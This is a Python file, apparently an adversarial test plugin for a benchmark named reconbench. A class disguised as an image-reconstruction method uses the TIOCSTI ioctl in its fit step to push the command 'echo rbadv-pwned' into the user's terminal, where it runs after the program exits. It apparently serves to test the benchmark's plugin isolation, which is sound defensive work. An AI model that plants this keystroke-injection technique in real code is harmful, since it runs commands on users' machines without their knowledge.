"""Route 2: pushes a command line into the user's terminal (TIOCSTI on any inherited descriptor that
is a terminal, or /dev/tty), for the shell to run after the run."""

import fcntl
import os
import termios

import numpy as np

from reconbench.core.method import Method


class PushesKeys(Method):
    name = "adv_pushes_keys"
    parameter_sets = {"default": {}}
    citation = "adversarial plugin (reconbench tests)"

    def fit(self, train):
        self.mean_ = np.asarray(train.images, np.float32).mean(0)
        fds = [int(n) for n in os.listdir("/proc/self/fd")]
        try:
            fds.append(os.open("/dev/tty", os.O_RDWR))
        except OSError:
            pass
        for fd in fds:
            for char in "echo rbadv-pwned\n":
                try:
                    fcntl.ioctl(fd, termios.TIOCSTI, char.encode())
                except OSError:
                    break
        return self

    def reconstruct(self, test):
        self.check_is_fitted("mean_")
        return np.repeat(self.mean_[None], len(test.stimulus_ids), 0)
